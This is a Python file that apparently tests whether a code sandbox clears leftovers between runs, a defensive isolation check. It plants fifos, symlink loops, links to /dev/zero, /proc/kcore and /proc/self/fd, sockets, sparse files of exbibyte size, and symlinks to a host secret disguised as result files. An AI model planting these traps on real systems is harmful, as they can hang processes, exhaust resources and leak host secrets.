"""Leave everything that is no file where files are looked for.

Technique: A fifo keeps who opens it waiting for ever, a link to /dev/zero never ends, links to /proc/self/fd lead to
    what the reader has open, loops of links, a socket, a sparse file of eight exbibytes, links to the host's secrets
    under the names of results.
Success: the next execution finds any of it, or the host's secret in its place.
Stopped by: workspace
"""

import socket

RESULTS = (
    "result.json",
    "output.txt",
    "plot.png",
    "stdout",
    "stderr",
    "core",
    "requirements.txt",
    "pyproject.toml",
    "artifacts",
)


def leave(message):
    for top in ("/work", "/tmp", "/dev/shm"):
        os.chdir(top)
        os.mkfifo(f"{message}-fifo")
        for number, to in enumerate(
            (
                "/dev/zero",
                "/proc/self/fd/0",
                "/proc/self/fd/3",
                "/proc/self/root",
                "/proc/1/cwd",
                "/proc/kcore",
                "loop",
                ".",
                "..",
                "/",
                canary["data_dir"],
            )
        ):
            os.symlink(to, f"{message}-{number}")
        os.symlink("loop", "loop")
        socket.socket(socket.AF_UNIX).bind(f"{message}-socket")
        with open(f"{message}-sparse", "wb") as file:
            for size in (1 << 40, (1 << 62) + 12345, (1 << 63) - 4096):
                answer(file.truncate, size)
            answer(os.pwrite, file.fileno(), b"x", (1 << 62) - 1)
        for name in RESULTS:
            os.symlink(canary["file"], name)
    os.replace("/work/result.json", "/work/main.py")


def find():
    found = []
    for top in ("/work", "/tmp", "/dev/shm"):
        found += [f"{top}/{name}" for name in os.listdir(top) if name != "main.py"]
    if os.path.islink("/work/main.py"):
        found.append("/work/main.py is a link")
    return ", ".join(found[:10])


def twin():
    """Links, fifos and sparse files of one's own are of use."""
    os.symlink("main.py", "/work/link")
    assert os.readlink("/work/link") == "main.py" and os.path.samefile("/work/link", "/work/main.py")
    with open("/work/sparse", "wb") as file:
        file.truncate(1 << 30)
    assert os.stat("/work/sparse").st_blocks == 0
    with open("/work/sparse", "rb") as file:
        assert os.lseek(file.fileno(), 0, os.SEEK_HOLE) == 0
